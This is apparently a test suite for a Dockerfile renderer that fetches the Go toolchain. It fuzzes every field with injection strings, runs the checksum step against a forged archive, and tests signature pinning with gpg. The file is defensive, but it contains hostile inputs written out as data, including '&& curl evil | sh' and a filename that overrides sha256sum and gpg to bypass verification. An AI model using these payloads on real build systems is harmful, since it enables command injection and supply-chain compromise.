// Every value the builder Dockerfile carries is refused or rendered inert, shown with real parsers
// (dockerfile-ast for the Dockerfile's instructions, mvdan-sh for the RUN scripts); then the rendered
// toolchain step is run with sh against a forged archive, and its signature check with real gpg.
import { execFileSync, spawnSync } from "child_process";
import { createHash } from "crypto";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import fc from "fast-check";
import { binaryString } from "../helpers/arbitraries";
import { DockerfileParser } from "dockerfile-ast";
import {
  BuilderDockerfileSpec,
  DockerfileError,
  dockerfileQuote,
  GO_SIGNING_KEY,
  GO_SIGNING_KEY_FILE,
  GO_SIGNING_KEY_SHA256,
  renderBuilderDockerfile,
  shellQuote,
  toolchainStepShell,
  TOOLCHAIN_STEP_PATHS,
} from "../../components/build-image/dockerfile";
import { resolveGoEnvBaseline } from "../../components/toolchain/goenv";
import { parseStackConfig, StackConfigError } from "../../stacks/config";
import { readStackConfig, stackConfigPath } from "../../cli/stack-files";
import { goEnvConfigMapManifest } from "../../components/module-proxy/manifests";
import { validateKubernetesObject } from "../helpers/k8s-schema";
import { startServer } from "../helpers/http";

// eslint-disable-next-line @typescript-eslint/no-require-imports
const sh = require("mvdan-sh").syntax;

const DEBIAN = "debian:bookworm-slim@sha256:7b140f374b289a7c2befc338f42ebe6441b7ea838a042bbd5acbfca6ec875818";
const AMD64_SUM = "ffb5f8de10c62550dfddab66b36b57030721e0a44a3218e9e1181d7b59f121ca";
const ARM64_SUM = "5a4ec883379d51ee9ce1040d5e87f8d35e20387574dd8c947feb01eabc3c1b37";
const AUDIT_FILENAME = 'go1.26.7.linux-amd64.tar.gz; sha256sum() { echo "$want_sum  /tmp/go.tgz"; }; gpg() { :; }; x=';

function baseSpec(over: Partial<BuilderDockerfileSpec> = {}): BuilderDockerfileSpec {
  return {
    goVersion: "1.26.7",
    archives: [
      { platform: "linux/amd64", filename: "go1.26.7.linux-amd64.tar.gz", sha256: AMD64_SUM },
      { platform: "linux/arm64", filename: "go1.26.7.linux-arm64.tar.gz", sha256: ARM64_SUM },
    ],
    mirror: "https://dl.google.com/go/",
    verifySignature: true,
    toolchainBase: DEBIAN,
    builderBase: DEBIAN,
    goEnv: resolveGoEnvBaseline({ proxyUrl: "http://athens.goproxy.svc.cluster.local", privatePrefixes: ["git.corp.example"] }),
    uid: 65532,
    labels: { source: "https://git.corp.example/platform/goguard" },
    ...over,
  };
}

/** Strings an attacker would try: shell and Dockerfile metacharacters, newlines, NUL, unicode, quoting tricks. */
const NASTY = [
  "; id",
  "$(id)",
  "`id`",
  "${HOME}",
  "$HOME",
  "'",
  "'\\''",
  '"',
  '\\"',
  "\\",
  "\\\n",
  "\nRUN id",
  "\r\nFROM scratch",
  "\u0000",
  "\u001b[2J",
  "\u2028",
  "\u202e",
  "é",
  "🐹",
  " #",
  "&& curl evil | sh",
  "| tee /etc/passwd",
  "> /tmp/x",
  "\t",
  "*",
  "~",
  "%s",
];
const nasty = fc.oneof(
  fc.string({ maxLength: 40 }),
  binaryString(20),
  fc.constantFrom(...NASTY),
  fc.tuple(fc.string({ maxLength: 10 }), fc.constantFrom(...NASTY), fc.string({ maxLength: 10 })).map(([a, b, c]) => a + b + c),
  fc.array(fc.constantFrom(...NASTY), { minLength: 1, maxLength: 4 }).map((xs) => xs.join("")),
);

// ---- the two real parsers -------------------------------------------------------------------

interface Parsed {
  readonly keywords: string[];
  /** Per RUN: the command names of its simple commands, in order (the script's structure). */
  readonly runCommands: string[][];
  /** Per RUN: each `name=value` assignment whose value is a literal word (no expansion), in order. */
  readonly runAssignments: Array<Array<[string, string | undefined]>>;
  /** ENV and LABEL name → value, decoded as BuildKit decodes the double-quoted form. */
  readonly env: Record<string, string>;
  readonly labels: Record<string, string>;
}

/** BuildKit's double-quote processing: the quotes go, `\"`, `\\` and `\$` are escapes, anything else is kept. */
function decodeDockerfileWord(raw: string): string {
  if (!raw.startsWith('"')) return raw;
  let out = "";
  for (let i = 1; i < raw.length - 1; i++) {
    if (raw[i] === "\\" && i + 1 < raw.length - 1 && '"\\$'.includes(raw[i + 1])) out += raw[++i];
    else out += raw[i];
  }
  return out;
}

/** The literal text of a shell word, or undefined when any part of it expands (parameters, commands, globs aside). */
function literalWord(word: any): string | undefined {
  let out = "";
  for (const part of word.Parts) {
    const t = sh.NodeType(part);
    if (t === "SglQuoted") out += part.Value;
    else if (t === "Lit") out += String(part.Value).replace(/\\(.)/g, "$1");
    else if (t === "DblQuoted" && part.Parts.every((p: any) => sh.NodeType(p) === "Lit")) out += part.Parts.map((p: any) => String(p.Value).replace(/\\([$`"\\])/g, "$1")).join("");
    else return undefined;
  }
  return out;
}

// mvdan-sh (GopherJS) is slow; a RUN script that a value did not change is parsed once.
const shellMemo = new Map<string, { commands: string[]; assignments: Array<[string, string | undefined]> }>();

function parseShell(script: string): { commands: string[]; assignments: Array<[string, string | undefined]> } {
  const known = shellMemo.get(script);
  if (known) return known;
  const parsed = parseShellUncached(script);
  if (shellMemo.size < 500) shellMemo.set(script, parsed);
  return parsed;
}

function parseShellUncached(script: string): { commands: string[]; assignments: Array<[string, string | undefined]> } {
  const file = sh.NewParser().Parse(script, "RUN");
  const commands: string[] = [];
  const assignments: Array<[string, string | undefined]> = [];
  sh.Walk(file, (n: any) => {
    if (!n) return true;
    const t = sh.NodeType(n);
    if (t === "CallExpr") {
      for (const a of n.Assigns ?? []) assignments.push([a.Name.Value, a.Value ? literalWord(a.Value) : ""]);
      if (n.Args && n.Args.length > 0) commands.push(literalWord(n.Args[0]) ?? "(expansion)");
    }
    return true;
  });
  return { commands, assignments };
}

function parseDockerfile(text: string): Parsed {
  const doc = DockerfileParser.parse(text);
  const keywords: string[] = [];
  const runCommands: string[][] = [];
  const runAssignments: Parsed["runAssignments"] = [];
  // Maps without a prototype: a variable may be named __proto__ (fast-check generates it; the renderer accepts it).
  const env: Record<string, string> = Object.create(null);
  const labels: Record<string, string> = Object.create(null);
  for (const ins of doc.getInstructions()) {
    keywords.push(ins.getKeyword());
    if (ins.getKeyword() === "RUN") {
      // The shell sees the instruction's text after the keyword, with the line continuations joined.
      const range = ins.getRange();
      const lines = text.split("\n").slice(range.start.line, range.end.line + 1);
      const script = lines.join("\n").replace(/^\s*RUN\s+/, "").replace(/\\\n/g, "");
      const p = parseShell(script);
      runCommands.push(p.commands);
      runAssignments.push(p.assignments);
    }
    if (ins.getKeyword() === "ENV" || ins.getKeyword() === "LABEL") {
      for (const prop of (ins as any).getProperties()) {
        const r = prop.getValueRange();
        const lines = text.split("\n");
        const raw = r.start.line === r.end.line ? lines[r.start.line].slice(r.start.character, r.end.character) : "(spans lines)";
        (ins.getKeyword() === "ENV" ? env : labels)[prop.getName()] = decodeDockerfileWord(raw);
      }
    }
  }
  return { keywords, runCommands, runAssignments, env, labels };
}

const BASELINE = parseDockerfile(renderBuilderDockerfile(baseSpec()));

/** Same instructions, same commands in every RUN: the value added no instruction and no command. */
function expectSameStructure(p: Parsed): void {
  expect(p.keywords).toEqual(BASELINE.keywords);
  expect(p.runCommands).toEqual(BASELINE.runCommands);
  expect(p.runAssignments.map((a) => a.map(([name]) => name))).toEqual(BASELINE.runAssignments.map((a) => a.map(([name]) => name)));
}

function noRawControl(message: string): void {
  expect(message).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202e]/);
}

function renderOrRefusal(spec: BuilderDockerfileSpec): string | DockerfileError {
  try {
    return renderBuilderDockerfile(spec);
  } catch (err) {
    if (err instanceof DockerfileError) return err;
    throw err;
  }
}

describe("quoting helpers", () => {
  test.each<[string, string]>([
    ["plain", "'plain'"],
    ["it's", "'it'\\''s'"],
    ["$(id)", "'$(id)'"],
    ["", "''"],
  ])("shellQuote(%j)", (v, q) => expect(shellQuote(v)).toBe(q));

  test("shellQuote gives one literal word equal to its input for any string without NUL (sh cannot hold NUL)", () => {
    fc.assert(
      // mvdan-sh drops a CR that follows a backslash inside single quotes (`'\\\r\n'` reads as
      // `\\\n`); sh keeps every byte between single quotes, so strings with a CR are checked against
      // the real /bin/sh below instead.
      fc.property(nasty.filter((s) => !s.includes("\u0000") && !s.includes("\r")), (s) => {
        const { assignments } = parseShell(`x=${shellQuote(s)}`);
        expect(assignments).toEqual([["x", s]]);
      }),
      { numRuns: 250 },
    );
  });

  test.each(["\\\r\nFROM scratch", "a\r\nb\r", "'\r'\\\r"])("shellQuote(%j) is the same bytes when /bin/sh expands it", (s) => {
    const out = execFileSync("/bin/sh", ["-c", `printf %s ${shellQuote(s)}`], { encoding: "utf8" });
    expect(out).toBe(s);
  });

  test("dockerfileQuote decodes, as BuildKit decodes it, to its input for any printable value", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(..." !\"#$%&'()*+,-./09:;<=>?@AZ[\\]^_`az{|}~".split("")), maxLength: 40 }), (s) => {
        expect(decodeDockerfileWord(dockerfileQuote(s))).toBe(s);
      }),
      { numRuns: 400 },
    );
  });
});

describe("the renderer refuses or renders inert every value, in every field", () => {
  type Mutator = (s: string) => Partial<BuilderDockerfileSpec>;
  const base = baseSpec();
  const FIELDS: Array<[string, Mutator]> = [
    ["goVersion", (s) => ({ goVersion: s })],
    ["archives[0].filename", (s) => ({ archives: [{ ...base.archives[0], filename: s }, base.archives[1]] })],
    ["archives[0].sha256", (s) => ({ archives: [{ ...base.archives[0], sha256: s }, base.archives[1]] })],
    ["archives[0].platform", (s) => ({ archives: [{ ...base.archives[0], platform: s }, base.archives[1]] })],
    ["mirror", (s) => ({ mirror: s })],
    ["toolchainBase", (s) => ({ toolchainBase: s })],
    ["builderBase", (s) => ({ builderBase: s })],
    ["goEnv value (GOFLAGS)", (s) => ({ goEnv: { ...base.goEnv, GOFLAGS: s } })],
    ["goEnv name", (s) => ({ goEnv: { ...base.goEnv, [s]: "x" } })],
    ["labels.source", (s) => ({ labels: { source: s } })],
    ["labels.revision", (s) => ({ labels: { ...base.labels, revision: s } })],
    ["signingKey.primaryFingerprint", (s) => ({ signingKey: { file: GO_SIGNING_KEY_FILE, sha256: GO_SIGNING_KEY_SHA256, primaryFingerprint: s } })],
    ["signingKey.file", (s) => ({ signingKey: { file: s, sha256: GO_SIGNING_KEY_SHA256, primaryFingerprint: GO_SIGNING_KEY } })],
  ];

  test.each(FIELDS)("%s", (field, mutate) => {
    fc.assert(
      fc.property(nasty, (s) => {
        const spec = baseSpec(mutate(s));
        const out = renderOrRefusal(spec);
        if (out instanceof DockerfileError) {
          // Refused: each problem names a field, and shows the value escaped.
          for (const p of out.problems) {
            expect(p).toMatch(/^[A-Za-z]+(\[\d+\])?(\.[A-Za-z0-9_]+)?[:. ]/);
            noRawControl(p);
          }
          return;
        }
        const parsed = parseDockerfile(out);
        if (field === "goEnv name") {
          // A new variable adds one ENV pair and one check (three statements), nothing else.
          expect(parsed.keywords).toEqual(BASELINE.keywords);
          expect(parsed.env[s]).toBe("x");
          return;
        }
        expectSameStructure(parsed);
        if (field === "goEnv value (GOFLAGS)") {
          expect(parsed.env.GOFLAGS).toBe(s);
          // In the check RUN, the expected value is one literal word equal to the value.
          const checks = parsed.runAssignments[parsed.runAssignments.length - 1].filter(([n]) => n === "want").map(([, v]) => v);
          expect(checks).toContain(s);
        }
        // An empty label is left out (it says nothing); any other accepted value is the label, exactly.
        if (field === "labels.source") expect(parsed.labels["org.opencontainers.image.source"]).toBe(s === "" ? undefined : s);
        if (field === "labels.revision") expect(parsed.labels["org.opencontainers.image.revision"]).toBe(s === "" ? undefined : s);
        if (field === "archives[0].filename") expect(s).toBe("go1.26.7.linux-amd64.tar.gz");
      }),
      { numRuns: 100 },
    );
  });

  test.each(["__proto__", "constructor", "toString"])("a Go variable named %s is one ENV pair and one check, nothing else", (name) => {
    const out = renderOrRefusal(baseSpec({ goEnv: { ...base.goEnv, [name]: "x" } }));
    if (out instanceof DockerfileError) throw out;
    const parsed = parseDockerfile(out);
    expect(parsed.keywords).toEqual(BASELINE.keywords);
    expect(Object.prototype.hasOwnProperty.call(parsed.env, name) && parsed.env[name]).toBe("x");
  });

  test("the audit's filename is refused by the renderer itself, even with the lock's validation bypassed", () => {
    const out = renderOrRefusal(baseSpec({ archives: [{ ...base.archives[0], filename: AUDIT_FILENAME }, base.archives[1]] }));
    expect(out).toBeInstanceOf(DockerfileError);
    expect((out as DockerfileError).problems).toEqual([
      'archives[0].filename: "go1.26.7.linux-amd64.tar.gz; sha256sum() { echo \\"$want_sum  "… (93 characters) is not "go1.26.7.linux-amd64.tar.gz", the archive go.dev publishes for Go 1.26.7 on linux/amd64; take it from the toolchain lock',
    ]);
  });
});

describe("stack config values reach the Dockerfile and manifests inert, or are refused", () => {
  const shipped = readStackConfig(stackConfigPath("staging"), "goguard").config;
  const KEYS = ["proxyUrl", "privatePrefixes", "proxyBucket", "awsRegion", "oidcProviderArn", "oidcIssuerHost", "redisEndpoint", "consumerNamespaces", "goVersion", "environment", "policyOverrides"];

  test.each(KEYS)("goguard:%s", (key) => {
    const asList = key === "privatePrefixes" || key === "consumerNamespaces";
    fc.assert(
      fc.property(nasty, (s) => {
        const config = { ...shipped, [`goguard:${key}`]: asList ? JSON.stringify([s]) : s };
        let settings;
        try {
          settings = parseStackConfig({ stack: "staging", config, secretKeys: [] });
        } catch (err) {
          if (!(err instanceof StackConfigError)) throw err;
          for (const p of err.problems) {
            expect(p).toMatch(/^(goguard:[A-Za-z]+|stack )/);
            noRawControl(p);
          }
          return;
        }
        // Accepted: the value is in its grammar; it renders into the builder and the go-env ConfigMap inert.
        const goEnv = resolveGoEnvBaseline({ proxyUrl: settings.proxyUrl, privatePrefixes: settings.privatePrefixes });
        const parsed = parseDockerfile(renderBuilderDockerfile(baseSpec({ goEnv })));
        expectSameStructure(parsed);
        for (const [k, v] of Object.entries(goEnv)) expect(parsed.env[k]).toBe(v);
        const cm = goEnvConfigMapManifest(
          { namespace: "goproxy", name: "athens", url: settings.proxyUrl, productionMode: true, strictSpread: false, allowEphemeralStorage: true, requireImageDigest: true, storage: { kind: "memory" }, replicas: 1, upstream: "https://proxy.golang.org", privatePrefixes: settings.privatePrefixes, goBinarySettings: {}, downloadMode: "sync", timeoutSeconds: 300, shutdownTimeoutSeconds: 60, hasNetrc: false },
          settings.proxy.consumerNamespaces[0] ?? "builds",
        ) as { apiVersion: string; kind: string };
        validateKubernetesObject(cm);
      }),
      { numRuns: 100 },
    );
  });
});

// ---- running the rendered toolchain step ----------------------------------------------------

function tarGz(dir: string, name: string, files: Record<string, string>): string {
  const root = fs.mkdtempSync(path.join(dir, "tree-"));
  for (const [f, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(root, f)), { recursive: true });
    fs.writeFileSync(path.join(root, f), text);
  }
  const out = path.join(dir, name);
  const r = spawnSync("tar", ["-C", root, "-czf", out, "go"], { encoding: "utf8" });
  if (r.status !== 0) throw new Error(`tar failed: ${r.stderr}`);
  return out;
}

function sha256Of(file: string): string {
  return createHash("sha256").update(fs.readFileSync(file)).digest("hex");
}

/** The step's script with its absolute paths moved under `root` (what the build's filesystem would be). */
function relocated(script: string, root: string): string {
  // One pass, longest path first: a relocated path must not be relocated again.
  const alternatives = Object.values(TOOLCHAIN_STEP_PATHS).sort((a, b) => b.length - a.length).map((p) => p.replace(/[.*+?^${}()|[\]\\]/g, "\\$&"));
  return script.replace(new RegExp(alternatives.join("|"), "g"), (p) => path.join(root, p));
}

function runStep(script: string, root: string, goArchive: string): { status: number | null; stdout: string; stderr: string } {
  const r = spawnSync("sh", ["-c", relocated(script, root)], {
    encoding: "utf8",
    timeout: 60_000,
    env: { PATH: process.env.PATH, HOME: root, TMPDIR: root, TARGETOS: "linux", TARGETARCH: "amd64", TARGETVARIANT: "", GO_ARCHIVE: goArchive },
  });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

describe("the rendered toolchain step, run with sh", () => {
  let work: string;
  beforeEach(() => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), "goguard-toolchain-step-"));
  });
  afterEach(() => fs.rmSync(work, { recursive: true, force: true }));

  test("a forged archive served on 127.0.0.1 fails the checksum before anything is extracted", async () => {
    const forged = tarGz(work, "forged.tar.gz", { "go/VERSION": "go1.26.7\n", "go/bin/go": "#!/bin/sh\necho forged\n" });
    const server = await startServer((_req, res) => res.end(fs.readFileSync(forged)));
    const root = path.join(work, "root");
    try {
      // What `ADD ${GO_MIRROR}${GO_ARCHIVE} /tmp/go.tgz` does: fetch the mirror's file to the archive path.
      fs.mkdirSync(path.join(root, "tmp"), { recursive: true });
      const body = Buffer.from(await (await fetch(`${server.url}/go/go1.26.7.linux-amd64.tar.gz`)).arrayBuffer());
      fs.writeFileSync(path.join(root, TOOLCHAIN_STEP_PATHS.archive), body);
    } finally {
      await server.close();
    }
    const r = runStep(toolchainStepShell(baseSpec({ verifySignature: false })), root, "go1.26.7.linux-amd64.tar.gz");
    expect(r.status).toBe(1);
    expect(r.stderr).toBe(`goguard: sha256 mismatch for go1.26.7.linux-amd64.tar.gz: expected ${AMD64_SUM}, got ${sha256Of(forged)}\n`);
    expect(fs.existsSync(path.join(root, "target"))).toBe(false);
  });

  test("the same step extracts an archive whose checksum is the locked one (the failure above is the checksum's)", () => {
    const good = tarGz(work, "good.tar.gz", { "go/VERSION": "go1.26.7\n", "go/bin/go": "#!/bin/sh\necho ok\n" });
    const root = path.join(work, "root");
    fs.mkdirSync(path.join(root, "tmp"), { recursive: true });
    fs.copyFileSync(good, path.join(root, TOOLCHAIN_STEP_PATHS.archive));
    const spec = baseSpec({ verifySignature: false, archives: [{ platform: "linux/amd64", filename: "go1.26.7.linux-amd64.tar.gz", sha256: sha256Of(good) }] });
    const r = runStep(toolchainStepShell(spec), root, "go1.26.7.linux-amd64.tar.gz");
    expect(r.stderr).toBe("");
    expect(r.status).toBe(0);
    expect(fs.readFileSync(path.join(root, "target/usr/local/go/VERSION"), "utf8")).toBe("go1.26.7\n");
  });

  test("a GO_ARCHIVE build arg naming another file is refused before the checksum", () => {
    const root = path.join(work, "root");
    fs.mkdirSync(path.join(root, "tmp"), { recursive: true });
    fs.writeFileSync(path.join(root, TOOLCHAIN_STEP_PATHS.archive), "x");
    const r = runStep(toolchainStepShell(baseSpec({ verifySignature: false })), root, "go1.26.7.linux-amd64.tar.gz; id");
    expect(r).toEqual({ status: 1, stdout: "", stderr: "goguard: GO_ARCHIVE is go1.26.7.linux-amd64.tar.gz; id, but the lock names go1.26.7.linux-amd64.tar.gz for linux/amd64\n" });
  });
});

const hasGpg = spawnSync("gpg", ["--version"]).status === 0;
(hasGpg ? describe : describe.skip)("the signature check, with real gpg and throwaway keys", () => {
  let work: string;
  let gnupg: string;
  const gpg = (...args: string[]): string => {
    const r = spawnSync("gpg", ["--homedir", gnupg, "--batch", "--pinentry-mode", "loopback", "--passphrase", "", ...args], { encoding: "utf8", timeout: 60_000 });
    if (r.status !== 0) throw new Error(`gpg ${args.join(" ")}: ${r.stderr}`);
    return r.stdout;
  };
  /** A primary key (certify only) with a separate signing subkey, as Go's key is built. */
  const makeKey = (uid: string): { primary: string; subkey: string } => {
    gpg("--quick-gen-key", uid, "ed25519", "cert", "never");
    const primary = /^fpr:+([0-9A-F]{40}):/m.exec(gpg("--with-colons", "--list-keys", uid))![1];
    gpg("--quick-add-key", primary, "ed25519", "sign", "never");
    const fprs = [...gpg("--with-colons", "--list-keys", uid).matchAll(/^fpr:+([0-9A-F]{40}):/gm)].map((m) => m[1]);
    return { primary, subkey: fprs.find((f) => f !== primary)! };
  };
  let keyA: { primary: string; subkey: string };
  let keyB: { primary: string; subkey: string };
  let archive: string;

  beforeAll(() => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), "goguard-gpg-"));
    gnupg = path.join(work, "gnupg");
    fs.mkdirSync(gnupg, { mode: 0o700 });
    keyA = makeKey("GoGuard test signing A <a@goguard.invalid>");
    keyB = makeKey("GoGuard test signing B <b@goguard.invalid>");
    archive = tarGz(work, "go.tar.gz", { "go/VERSION": "go1.26.7\n" });
  }, 120_000);
  afterAll(() => fs.rmSync(work, { recursive: true, force: true }));

  /** Sets up the build filesystem: archive, its signature by `signer` (a subkey, `!` = exactly that key), the key file. */
  const stage = (name: string, signer: string, keyFileOf: string[]): { root: string; spec: BuilderDockerfileSpec } => {
    const root = path.join(work, name);
    fs.mkdirSync(path.join(root, "tmp"), { recursive: true });
    fs.copyFileSync(archive, path.join(root, TOOLCHAIN_STEP_PATHS.archive));
    gpg("--local-user", `${signer}!`, "--armor", "--output", path.join(root, TOOLCHAIN_STEP_PATHS.signature), "--detach-sign", archive);
    const keyText = gpg("--armor", "--export", ...keyFileOf);
    fs.writeFileSync(path.join(root, TOOLCHAIN_STEP_PATHS.key), keyText);
    const spec = baseSpec({
      verifySignature: true,
      archives: [{ platform: "linux/amd64", filename: "go1.26.7.linux-amd64.tar.gz", sha256: sha256Of(archive) }],
      signingKey: { file: "test-signing-key.asc", sha256: createHash("sha256").update(keyText).digest("hex"), primaryFingerprint: keyA.primary },
    });
    return { root, spec };
  };

  test("a signature by a signing subkey of the pinned primary passes (VALIDSIG ends with the primary)", () => {
    const { root, spec } = stage("ok", keyA.subkey, [keyA.primary]);
    const r = runStep(toolchainStepShell(spec), root, "go1.26.7.linux-amd64.tar.gz");
    expect(r.stderr).toBe("");
    expect(r.status).toBe(0);
    expect(fs.existsSync(path.join(root, "target/usr/local/go/VERSION"))).toBe(true);
  });

  test("a valid signature by another key in the key file is refused: only the pinned primary counts", () => {
    const { root, spec } = stage("other-primary", keyB.subkey, [keyA.primary, keyB.primary]);
    const r = runStep(toolchainStepShell(spec), root, "go1.26.7.linux-amd64.tar.gz");
    expect(r.status).toBe(1);
    expect(r.stderr).toBe(`goguard: the archive is not signed by a key of ${keyA.primary}\n`);
    expect(fs.existsSync(path.join(root, "target"))).toBe(false);
  });

  test("a signature by a key the key file lacks does not verify", () => {
    const { root, spec } = stage("unknown-key", keyB.subkey, [keyA.primary]);
    const r = runStep(toolchainStepShell(spec), root, "go1.26.7.linux-amd64.tar.gz");
    expect(r.status).toBe(1);
    expect(r.stderr).toBe("goguard: the signature of go1.26.7.linux-amd64.tar.gz does not verify against the vendored Go signing key\n");
  });

  test("a key file other than the one the Dockerfile names is refused before import", () => {
    const { root, spec } = stage("swapped-key", keyA.subkey, [keyA.primary]);
    fs.appendFileSync(path.join(root, TOOLCHAIN_STEP_PATHS.key), "\n");
    const r = runStep(toolchainStepShell(spec), root, "go1.26.7.linux-amd64.tar.gz");
    expect(r.status).toBe(1);
    expect(fs.existsSync(path.join(root, "target"))).toBe(false);
  });

  test("the vendored Go key is the published one, and its primary is the fingerprint the Dockerfile pins", () => {
    const file = path.join(__dirname, "../../components/build-image", GO_SIGNING_KEY_FILE);
    expect(sha256Of(file)).toBe(GO_SIGNING_KEY_SHA256);
    const shown = spawnSync("gpg", ["--homedir", gnupg, "--batch", "--with-colons", "--show-keys", file], { encoding: "utf8" }).stdout;
    expect(/^fpr:+([0-9A-F]{40}):/m.exec(shown)![1]).toBe(GO_SIGNING_KEY);
    // The subkey the old check required is in it, and expired in 2022 (1658427182 = 2022-07-21).
    expect(shown).toMatch(/^sub:e:4096:1:78BD65473CB3BD13:1563819182:1658427182:/m);
  });
});
